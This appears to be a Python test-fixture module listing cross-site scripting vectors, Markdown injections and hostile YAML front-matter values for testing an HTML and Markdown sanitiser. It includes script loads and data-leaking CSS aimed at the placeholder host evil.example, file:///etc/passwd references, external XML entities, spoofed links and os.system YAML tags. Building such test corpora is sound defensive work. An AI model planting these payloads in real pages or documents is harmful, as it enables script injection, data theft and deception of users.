r"""Hostile markup by kind: what the cheat sheets of cross-site scripting list, and what Markdown and front matter add.

Kinds follow OWASP's XSS Filter Evasion Cheat Sheet, html5sec.org, the test suites of DOMPurify and of ammonia, and
the mutation attacks published against them; the examples are written for these tests. Every script calls alert,
every foreign address is on evil.example.
"""

# ruff: noqa: E501 -- a vector stays on one line

from __future__ import annotations

from typing import NamedTuple


class Vector(NamedTuple):
    """One hostile piece of markup."""

    kind: str
    markup: str


def _group(kind: str, *markups: str) -> list[Vector]:
    return [Vector(kind, markup) for markup in markups]


_SCRIPTS = [
    *_group("script", "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    *_group("script in pieces", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1);//<</script>"),
    *_group("script without end", "<script>alert(1)", "<script src=//evil.example/x"),
    *_group("script with odd delimiters", "<script/x>alert(1)</script >", "<script\x0c>alert(1)</script\n>"),
    *_group("script in svg", "<svg><script>alert&#40;1)</script></svg>", "<svg><script href=data:,alert(1) /></svg>"),
    *_group("script as a module", '<script type=module src="https://evil.example/m.js"></script>'),
    *_group("script that says it is a formula", '<script type="math/tex"><img src=x onerror=alert(1)></script>'),
    *_group("script in NULs", "<scr\x00ipt>alert(1)</scr\x00ipt>", "<img src=x on\x00error=alert(1)>"),
]
_HANDLERS = [
    *_group(
        "onerror", "<img src=x onerror=alert(1)>", '<IMG SRC=x OnErRoR="alert(1)">', "<img src=x onerror\t=\nalert(1)>"
    ),
    *_group("onerror behind a slash", "<img/src=x/onerror=alert(1)>", '<img src="x"onerror="alert(1)">'),
    *_group("onerror behind a quote", '<img """><script>alert(1)</script>">', "<img src='x' '\"onerror=alert(1)>"),
    *_group("onload", "<body onload=alert(1)>字</body>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//"),
    *_group("onfocus", "<input autofocus onfocus=alert(1)>", "<p tabindex=1 onfocus=alert(1) autofocus>字</p>"),
    *_group("ontoggle", "<details open ontoggle=alert(1)><summary>字</summary>句</details>"),
    *_group("onstart", "<marquee onstart=alert(1)>字</marquee>"),
    *_group("onanimation", "<p style='animation:x' onanimationstart=alert(1)>字</p>"),
    *_group("onpointer", "<p onpointerenter=alert(1) onauxclick=alert(2)>字</p>"),
    *_group("onbeforetoggle", "<div popover onbeforetoggle=alert(1)>字</div><button popovertarget=x>字</button>"),
    *_group(
        "oncontentvisibility", "<p oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>字</p>"
    ),
    *_group("onscroll", "<p onscrollend=alert(1) onscrollsnapchange=alert(1)>字</p>"),
    *_group("handler with a prefix", "<x:p xml:onload=alert(1) ev:event=load>字</x:p>"),
]
_ADDRESSES = [
    *_group("javascript", "<a href=javascript:alert(1)>字</a>", '<a href="JaVaScRiPt:alert(1)">字</a>'),
    *_group(
        "javascript by entities",
        "<a href='&#106;&#97;vascript:alert(1)'>字</a>",
        "<a href='jav&#x61script:alert(1)'>字</a>",
    ),
    *_group("javascript by long entities", "<a href='&#0000106&#0000097&#0000118ascript:alert(1)'>字</a>"),
    *_group(
        "javascript with tabs",
        "<a href='java\tscript:alert(1)'>字</a>",
        "<a href='java&Tab;scr&NewLine;ipt&colon;alert(1)'>字</a>",
    ),
    *_group(
        "javascript behind controls",
        "<a href='\x01\x02 javascript:alert(1)'>字</a>",
        "<a href=' &#14; javascript:alert(1)'>字</a>",
    ),
    *_group(
        "javascript with NULs", "<a href='java\x00script:alert(1)'>字</a>", "<a href='java&#0;script:alert(1)'>字</a>"
    ),
    *_group(
        "javascript with unicode",
        "<a href='\u200bjavascript:alert(1)'>字</a>",
        "<a href='java\u00adscript:alert(1)'>字</a>",
        "<a href='ｊavascript：alert(1)'>字</a>",
        "<a href='jav\u0131ascript:alert(1)'>字</a>",
    ),
    *_group(
        "javascript in escapes of the address",
        "<a href='%6aavascript:alert(1)'>字</a>",
        "<a href='javascript%3Aalert(1)'>字</a>",
    ),
    *_group(
        "javascript behind an escaped entity",
        "<a href='jav&amp;#x61;script:alert(1)'>字</a>",
        "<a href='javascript&amp;colon;alert(1)'>字</a>",
        "<a href='java&amp;Tab;script&amp;colon;alert(1)'>字</a>",
    ),
    *_group(
        "javascript behind a redirect",
        "<a href='https://go.example/link?url=javascript:alert(1)'>字</a>",
        "<a href='https://link.example/?target=javascript%3Aalert(1)//https%3A//a.example'>字</a>",
    ),
    *_group("vbscript", "<a href='vbscript:msgbox(1)'>字</a>", "<a href='VbScRiPt:x'>字</a>"),
    *_group("livescript", "<a href='livescript:x'>字</a>", "<a href='mocha:x'>字</a>"),
    *_group(
        "data page",
        "<a href='data:text/html,<script>alert(1)</script>'>字</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>字</a>",
        "<a href=' DATA:,x'>字</a>",
    ),
    *_group(
        "file",
        "<a href='file:///etc/passwd'>字</a>",
        "<a href='file://evil.example/share/x'>字</a>",
        "<a href='FILE:c:/windows/system32/calc.exe'>字</a>",
    ),
    *_group(
        "programs by scheme",
        "<a href='ms-msdt:/id'>字</a>",
        "<a href='search-ms:query=x&crumb=location:\\\\evil.example\\x'>字</a>",
        "<a href='ssh://-oProxyCommand=x'>字</a>",
        "<a href='vscode://x'>字</a>",
        "<a href='smb://evil.example/x'>字</a>",
        "<a href='steam://run/1'>字</a>",
    ),
    *_group(
        "browsers' own schemes",
        "<a href='view-source:x'>字</a>",
        "<a href='chrome://quit'>字</a>",
        "<a href='about:blank'>字</a>",
        "<a href='blob:https://evil.example/x'>字</a>",
        "<a href='filesystem:https://evil.example/x'>字</a>",
        "<a href='jar:https://evil.example/a.jar!/x'>字</a>",
        "<a href='intent://x#Intent;scheme=x;end'>字</a>",
    ),
    *_group(
        "resources",
        "<img src='qrc:/x.png'>",
        "<img src=':/x.png'>",
        "<a href='qrc:/x'>字</a>",
        "<img src='image://x/y'>",
    ),
    *_group(
        "share by backslashes",
        "<img src='\\\\evil.example\\share\\x.png'>",
        "<a href='\\\\evil.example\\share'>字</a>",
        "<img src='file:////evil.example/share/x.png'>",
    ),
    *_group("link with ping", "<a href='https://a.example/' ping='https://evil.example/p'>字</a>"),
    *_group("link with download", "<a href='https://a.example/' download='x.exe' target=_blank>字</a>"),
    *_group("link with style", "<a href='https://a.example/' style='position:fixed;inset:0;opacity:0'>字</a>"),
    *_group(
        "svg link",
        "<svg><a xlink:href='javascript:alert(1)'><text x=1>字</text></a></svg>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>字</text></a></svg>",
    ),
    *_group(
        "math link",
        "<math href='javascript:alert(1)'><mi>字</mi></math>",
        "<math><maction actiontype='statusline#https://evil.example' xlink:href='javascript:alert(1)'>字</maction></math>",
    ),
    *_group("area", "<map name=m><area shape=default href='javascript:alert(1)'></map><img usemap=#m src=x>"),
    *_group("mail with a file", "<a href='mailto:a@evil.example?attach=/etc/passwd'>字</a>"),
]
_PICTURES = [
    *_group(
        "picture by script",
        "<img src=javascript:alert(1)>",
        "<img src='jav&#x0A;ascript:alert(1)'>",
        "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    ),
    *_group(
        "lazy picture by script",
        "<img data-src='javascript:alert(1)' data-original='data:text/html,x'>",
        "<img data-original='file:///etc/passwd'>",
    ),
    *_group(
        "srcset",
        "<img srcset='javascript:alert(1) 2x, data:text/html,x 3x'>",
        "<picture><source srcset='javascript:alert(1)'><img src=x onerror=alert(1)></picture>",
    ),
    *_group(
        "data svg",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
        "<img src='data:IMAGE/SVG%2bxml,x'>",
    ),
    *_group(
        "data of another type",
        "<img src='data:text/html,<script>alert(1)</script>'>",
        "<img src='data:application/pdf;base64,JVBE'>",
    ),
    *_group(
        "image element",
        "<image src=x onerror=alert(1)>",
        "<svg><image href='https://evil.example/x' onload=alert(1) /></svg>",
    ),
    *_group(
        "input as picture",
        "<input type=image src='https://evil.example/x' onerror=alert(1)>",
        "<input type=image formaction=javascript:alert(1)>",
    ),
    *_group(
        "background",
        "<table background='javascript:alert(1)'><tr><td background='https://evil.example/x'>字</td></tr></table>",
        "<body background='https://evil.example/x'>",
    ),
    *_group("bgsound", "<bgsound src='javascript:alert(1)'>"),
    *_group(
        "video poster",
        "<video poster='javascript:alert(1)' src='javascript:alert(1)'>字</video>",
        "<video><source onerror=alert(1) src=x></video>",
    ),
    *_group(
        "audio",
        "<audio src='data:text/html,x' onerror=alert(1)>字</audio>",
        "<audio controls autoplay src='https://evil.example/a.mp3'></audio>",
    ),
    *_group("track", "<video src=x><track src='javascript:alert(1)' oncuechange=alert(1) default></video>"),
]
_FRAMES = [
    *_group(
        "iframe",
        "<iframe src='javascript:alert(1)'></iframe>",
        "<iframe src='data:text/html,x' onload=alert(1)></iframe>",
    ),
    *_group(
        "srcdoc",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'>字",
    ),
    *_group("frameset", "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>"),
    *_group(
        "portal",
        "<portal src='https://evil.example/' onload=alert(1)></portal>",
        "<fencedframe src='https://evil.example/'></fencedframe>",
    ),
    *_group(
        "object",
        "<object data='javascript:alert(1)'>字</object>",
        "<object data='data:text/html,x' type=text/html></object>",
        "<object classid=clsid:ae24 codebase='javascript:alert(1)'><param name=url value='javascript:alert(1)'></object>",
    ),
    *_group(
        "embed",
        "<embed src='javascript:alert(1)'>",
        "<embed src='data:image/svg+xml,x' type='image/svg+xml' allowscriptaccess=always>",
    ),
    *_group("applet", "<applet code=x codebase='https://evil.example/'>字</applet>"),
    *_group("webview", "<webview src='https://evil.example/'></webview>"),
]
_STYLES = [
    *_group(
        "style expression",
        "<p style='width:expression(alert(1))'>字</p>",
        "<p style='wid/**/th:exp/**/ression(alert(1))'>字</p>",
    ),
    *_group(
        "style address",
        "<p style=\"background:url('javascript:alert(1)')\">字</p>",
        "<p style='background-image:\\75 rl(https://evil.example/x)'>字</p>",
        "<p style='list-style:image-set(\"https://evil.example/x\" 1x)'>字</p>",
    ),
    *_group(
        "style element",
        "<style>body{background:url(https://evil.example/x)}</style>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>@font-face{font-family:x;src:url(https://evil.example/x)}</style>",
    ),
    *_group(
        "style binding",
        "<p style='-moz-binding:url(https://evil.example/x#y)'>字</p>",
        "<p style='behavior:url(#default#time2)'>字</p>",
    ),
    *_group(
        "style variables",
        "<p style='--x:url(https://evil.example/x);background:var(--x)'>字</p>",
        "<style>input[value^=a]{--a:url(https://evil.example/a)}</style>",
    ),
    *_group(
        "style that closes itself",
        "<style></style><img src=x onerror=alert(1)></style>",
        "<p style='x:&lt;/style&gt;<img src=x onerror=alert(1)>'>字</p>",
    ),
    *_group("overlay", "<div style='position:fixed;z-index:9999;inset:0;background:#fff'>字</div>"),
    *_group(
        "link to a style sheet",
        "<link rel=stylesheet href='javascript:alert(1)'>",
        "<link rel='preload' as=script href='https://evil.example/x.js'>",
        "<link rel=import href='https://evil.example/'>",
        "<link rel=prefetch href='https://evil.example/'><link rel=dns-prefetch href='//evil.example'>",
    ),
    *_group(
        "xml style sheet",
        "<?xml-stylesheet href='javascript:alert(1)'?><p>字</p>",
        "<?xml-stylesheet type='text/xsl' href='#x'?>",
    ),
]
_DOCUMENT = [
    *_group(
        "meta refresh",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<META HTTP-EQUIV='refresh' CONTENT='0;url=data:text/html,x'>",
        "<meta http-equiv=Set-Cookie content='x=<script>alert(1)</script>'>",
    ),
    *_group(
        "meta charset",
        "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<meta http-equiv=content-type content='text/html;charset=utf-7'>",
    ),
    *_group(
        "base",
        "<base href='javascript:alert(1)//'><a href='x'>字</a>",
        "<base href='https://evil.example/'><img src='x.png'>",
    ),
    *_group("manifest", "<html manifest='https://evil.example/x'>"),
    *_group("import map", '<script type=importmap>{"imports":{"x":"https://evil.example/x.js"}}</script>'),
    *_group(
        "speculation rules", '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>'
    ),
]
_FORMS = [
    *_group(
        "form",
        "<form action='javascript:alert(1)'><input type=submit value=字></form>",
        "<form id=x></form><button form=x formaction=javascript:alert(1)>字</button>",
    ),
    *_group("isindex", "<isindex type=image src=1 onerror=alert(1)>", "<isindex action=javascript:alert(1) prompt=字>"),
    *_group("keygen", "<keygen autofocus onfocus=alert(1)>"),
    *_group("select", "<select onfocus=alert(1) autofocus><option>字</select>"),
    *_group(
        "textarea",
        "<textarea onfocus=alert(1) autofocus>字</textarea>",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    ),
    *_group(
        "clobbering",
        "<form id=document><input name=cookie></form>",
        "<a id=x><a id=x name=y href='cid:alert(1)'>字</a>",
        "<img name=getElementById>",
    ),
    *_group("contenteditable", "<p contenteditable onbeforeinput=alert(1) autofocus>字</p>"),
    *_group("custom element", "<x-x onclick=alert(1) is=y>字</x-x>", "<p is=x-y slot=z part=p>字</p>"),
    *_group("shadow root", "<div><template shadowrootmode=open><img src=x onerror=alert(1)>字</template></div>"),
]
_VECTOR_GRAPHICS = [
    *_group(
        "svg use",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
        "<svg><use xlink:href='https://evil.example/x.svg#y'/></svg>",
    ),
    *_group(
        "svg animation",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>字</text></a></svg>",
        "<svg><set attributeName=onmouseover to=alert(1) />",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    ),
    *_group(
        "svg foreign object",
        "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe><p>字</p></foreignObject></svg>",
    ),
    *_group("svg feimage", "<svg><filter><feImage xlink:href='data:image/svg+xml,x'/></filter></svg>"),
    *_group(
        "svg handler",
        "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>alert(1)</handler></svg>",
        "<svg><discard onbegin=alert(1)>",
    ),
    *_group(
        "svg style",
        "<svg><style>@import 'https://evil.example/x'</style><text>字</text></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
    ),
    *_group(
        "xml data island",
        "<xml id=x><i><![CDATA[<img src=x onerror=alert(1)>]]></i></xml><span datasrc=#x datafld=i dataformatas=html>字</span>",
    ),
    *_group(
        "vml",
        "<v:vmlframe src='https://evil.example/x.xml#y'>字</v:vmlframe>",
        "<t:set attributeName=innerHTML to='<img src=x onerror=alert(1)>'>字</t:set>",
    ),
]
_MUTATIONS = [
    *_group(
        "mutation through math and style",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    ),
    *_group(
        "mutation through svg and style",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<svg><p><style><g title='</style><img src onerror=alert(1)>'>",
    ),
    *_group(
        "mutation through title",
        "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
        "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    ),
    *_group(
        "mutation through noscript",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    ),
    *_group(
        "mutation through template",
        "<template><form></template><img src=x onerror=alert(1)>",
        "<table><template><svg><style></table><img src=x onerror=alert(1)>",
    ),
    *_group(
        "mutation through xmp",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    ),
    *_group(
        "mutation through plaintext",
        "<plaintext><img src=x onerror=alert(1)>",
        "<svg><plaintext><img src=x onerror=alert(1)>",
    ),
    *_group(
        "mutation through noembed",
        "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
        "<noframes><style></noframes><img src=x onerror=alert(1)></style></noframes>",
    ),
    *_group(
        "mutation through nested forms",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    *_group(
        "mutation through tables",
        "<table><caption><svg><p><style></caption><img src=x onerror=alert(1)></table>",
        "<svg><table><style></table><img src=x onerror=alert(1)>",
    ),
    *_group(
        "mutation through annotations",
        "<math><annotation-xml encoding='text/html'><style></math><img src=x onerror=alert(1)></style></annotation-xml></math>",
    ),
    *_group(
        "mutation through backticks",
        "<img alt=`><img src=x onerror=alert(1)>`>",
        "<img src=`javascript:alert(1)`>",
        "<listing title='`` onmouseover=alert(1)'>字</listing>",
    ),
    *_group(
        "mutation through select",
        "<select><template><style></select><img src=x onerror=alert(1)></style>",
        "<select><iframe></select><img src=x onerror=alert(1)>",
    ),
    *_group(
        "mutation through depth", "<div>" * 510 + "<table><svg><style><a title='</style><img src=x onerror=alert(1)>'>"
    ),
    *_group(
        "unclosed attribute",
        "<img src='x\" onerror=alert(1)//>",
        '<p title="<img src=x onerror=alert(1)>',
        "<a href=\"https://a.example/'><img src=x onerror=alert(1)>",
    ),
    *_group(
        "unclosed comment",
        "<!-- <img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--x--!><img src=x onerror=alert(1)>-->",
    ),
    *_group(
        "odd comment",
        "<? <img src=x onerror=alert(1)>?>",
        "<!x <img src=x onerror=alert(1)>>",
        "</ <img src=x onerror=alert(1)>",
        "<% <img src=x onerror=alert(1)> %>",
        "<![if<iframe/onload=vbs::alert[:]",
    ),
    *_group(
        "conditional comment",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![if true]><img src=x onerror=alert(1)><![endif]>",
    ),
    *_group(
        "character data",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    ),
    *_group(
        "external entity",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><p>&e;字</p>",
        "<!DOCTYPE html PUBLIC 'x' 'https://evil.example/x.dtd'><p>字</p>",
    ),
    *_group("entities in entities", "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;'>]><p>&b;字</p>"),
    *_group(
        "escaped twice",
        "<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;字</p>",
        "<p>&lt;img src=x onerror=alert(1)&gt;字</p>",
    ),
    *_group(
        "numbers of characters",
        "<p>&#60;img src=x onerror=alert(1)&#62;字</p>",
        "<p>&#x3c;script&#x3e;字</p>",
        "<p>&#xD800;&#x110000;&#0;&#x80;字</p>",
    ),
    *_group(
        "letters that fold",
        "<ſcript>alert(1)</ſcript>",
        "<İMG src=x onerror=alert(1)>",
        "＜script＞alert(1)＜/script＞",
    ),
    *_group(
        "direction turned",
        "<a href='https://evil.example/\u202egpj.exe'>字\u202emoc.knab</a>",
        "<a href='https://evil.example/\u2067x\u2069'>https://bank.example/</a>",
    ),
    *_group(
        "our own element",
        "<pizhu-removed rule='<img src=x onerror=alert(1)>' block>字</pizhu-removed>",
        "<pizhu-removed onclick=alert(1)>字</pizhu-removed>",
    ),
    *_group("our own marks", "<p>\ufffc\x00\x01\u2028\u2029字</p>", "<p>甲\ufdd0\ufdd1\U0001fffe字</p>"),
]
HTML = [
    *_SCRIPTS, *_HANDLERS, *_ADDRESSES, *_PICTURES, *_FRAMES, *_STYLES, *_DOCUMENT, *_FORMS, *_VECTOR_GRAPHICS,
    *_MUTATIONS,
]  # fmt: skip

MARKDOWN = [
    *_group("Markdown link", "[字](javascript:alert(1))", "[字](<javascript:alert(1)>)", "[字](JaVaScRiPt:alert&#40;1&#41;)", "[字](  javascript:alert(1) 'x')"),
    *_group("Markdown link by entities", "[字](&#106;avascript:alert(1))", "[字](javascript&colon;alert(1))", "[字](java&Tab;script:alert(1))", "[字](jav&amp;#x61;script:alert(1))"),
    *_group("Markdown link by escapes", "[字](javascript\\:alert(1))", "[字](%6aavascript:alert(1))", "[字](\x01javascript:alert(1))", "[字](<java\tscript:alert(1)>)"),
    *_group("Markdown data link", "[字](data:text/html;base64,PHNjcmlwdD4=)", "[字](vbscript:x)", "[字](file:///etc/passwd)"),
    *_group("Markdown autolink", "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)//字>", "<data:text/html,x>", "<file:///etc/passwd>", "<vscode://x>"),
    *_group("Markdown reference", "[字][a]\n\n[a]: javascript:alert(1)", "[字]\n\n[字]: <data:text/html,x> 'x'", "[a]: javascript&#58;alert(1)\n\n[字][a]"),
    *_group("Markdown picture", "![字](javascript:alert(1))", "![字](data:image/svg+xml,<svg/onload=alert(1)>)", "![字](x 'y\" onerror=\"alert(1)')", '![x" onerror="alert(1)](x)'),
    *_group("Markdown picture by reference", "![字][a]\n\n[a]: javascript:alert(1)", "[![字](x)](javascript:alert(1))"),
    *_group("Markdown title", "[字](https://a.example/ '\"><img src=x onerror=alert(1)>')", "[字](https://a.example/ '<img src=file://evil.example/x>')"),
    *_group("Markdown raw block", "<div>\n\n*字*\n\n<img src=x onerror=alert(1)></div>", "<details open ontoggle=alert(1)>\n\n字\n\n</details>"),
    *_group("Markdown raw inline", "字<img src=x onerror=alert(1)>字", "*<b onclick=alert(1)>字</b>*", "字 <svg/onload=alert(1)> 字"),
    *_group("Markdown raw in a table", "|甲|乙|\n|-|-|\n|<img src=x onerror=alert(1)>|字|", "|甲<script>alert(1)</script>|乙|\n|-|-|\n|丙|字|"),
    *_group("Markdown raw in a list", "- <img src=x onerror=alert(1)>\n- 字", "1. <script>alert(1)</script>\n2. 字"),
    *_group("Markdown raw in a quote", "> <iframe src=javascript:alert(1)></iframe>\n> 字", "> <script>\n字\n</script>"),
    *_group("Markdown raw in a heading", "# <img src=x onerror=alert(1)>字", "字<script>alert(1)</script>\n==="),
    *_group("Markdown raw in a note", "字[^1]\n\n[^1]: <img src=x onerror=alert(1)>句", "字[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: 句"),
    *_group("Markdown fence", '```x" onload="alert(1)\n字\n```', "```<img src=x onerror=alert(1)>\n字\n```", "```{=html}\n<script>alert(1)</script>\n```", "~~~html'onclick='alert(1)\n字\n~~~"),
    *_group("Markdown fence that a program runs", "```dataviewjs\nalert('字')\n```", "<pre data-lang='{=html}'><code>&lt;script&gt;字</code></pre>", "<pre data-lang='dataviewjs'><code>字</code></pre>"),
    *_group("Markdown code", "`<img src=x onerror=alert(1)>`", "``</code><script>alert(1)</script>``", "    <script>alert(1)</script>"),
    *_group("Markdown formula", "$\\href{javascript:alert(1)}{字}$", "$$\\unicode{<img src=x onerror=alert(1)>}$$", "$<img src=x onerror=alert(1)>$"),
    *_group("Markdown in HTML", "<p>[字](javascript:alert(1))</p>\n\n**句**", "<div>\n![字](x \"onerror=alert(1)\")\n</div>"),
    *_group("Markdown across a comment", "<!-- 字 -->\n[字](javascript:alert(1))<!--\n-->", "字 <!-- > <img src=x onerror=alert(1)> -->"),
    *_group("template", "{{ 'x' | constructor }}字", "{% raw %}<script>alert(1)</script>{% endraw %}字", "{% include_relative ../../etc/passwd %}字", "{% img javascript:alert(1) %}"),
    *_group("link that lies", "[https://bank.example/](https://evil.example/)", "[字](https://bank.example@evil.example/)", "[字](https://bank.example%2f@evil.example/)"),
]  # fmt: skip

# Values of front matter: what the window, the export and the library are told about an article.
FRONT_MATTER = {
    "title with markup": "title: '<img src=x onerror=alert(1)>字'",
    "title with entities": "title: '&lt;script&gt;alert(1)&lt;/script&gt;字'",
    "title with directions": "title: \"字\\u202Egpj.exe\"",
    "title with lines": 'title: "字\\n# 句\\n<script>alert(1)</script>"',
    "title that is Markdown": "title: '[字](javascript:alert(1))'",
    "cover by script": "title: 字\ncover: javascript:alert(1)",
    "cover from a file": "title: 字\ncover: file:///etc/passwd",
    "categories with markup": "title: 字\ncategories: ['<img src=x onerror=alert(1)>', '../../etc']",
    "publisher with markup": "title: 字\npublisher: '<img src=x onerror=alert(1)>'",
    "author with markup": "title: 字\nauthor: {name: '<svg/onload=alert(1)>'}",
    "original by script": "title: 字\noriginal: javascript:alert(1)",
    "original with quotes": "title: 字\nlink: 'https://a.example/\"><img src=x onerror=alert(1)>'",
    "language with markup": "title: 字\nlang: 'zh\"><script>'",
    "tags with markup": "title: 字\ntags: ['<script>alert(1)</script>', '[x](javascript:alert(1))']",
    "date with markup": "title: 字\ndate: '<img src=x onerror=alert(1)>'",
    "objects of Python": "title: 字\nx: !!python/object/apply:os.system ['false']",
    "names of Python": "title: !!python/name:os.system 字",
    "binary": "title: 字\nx: !!binary 'PHNjcmlwdD4='",
}  # fmt: skip
